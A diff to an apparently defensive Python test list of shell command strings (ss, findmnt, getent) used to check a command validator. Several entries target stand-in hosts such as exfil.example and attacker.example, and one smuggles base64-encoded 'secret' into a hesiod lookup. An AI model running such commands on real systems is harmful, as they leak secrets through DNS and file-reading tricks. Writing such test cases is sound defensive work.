@@ -164,7 +164,7 @@ def _others() -> list[str]:
         "ss -tn state established secret3.exfil.example", "ss -tn '( dst 1.2.3.4 or secret2.exfil.example )'",
         "ss -tn '(dst 1.2.3.4)or(x.exfil.example)'", "ss -F {d}/victim.txt", "ss --filter={d}/victim.txt",
         "ss dst 10.0.0.1 state established", "ss state x.exfil.example", "ss dport = x.exfil.example",
-        "ss dev x.exfil.example.long", "ss fwmark x.exfil.example", "ss cgroup /x", "ss sport :a.b",
+        "ss dev x.exfil.example.long", "ss fwmark x.exfil.example", "ss sport :a.b", "ss -tn state listen", "ss -tn '(dport = :443)'", "ss cgroup x.exfil.example",
         "findmnt --tree --poll", "findmnt --tree -Fcontainer_info.json", "findmnt -o -p",
         "getent -s hesiod passwd c2VjcmV0@attacker.example", "getent --service=hesiod group x@a.example",
         "getent -s passwd:hesiod passwd x@a.example", "getent -s dns services x@a.example",
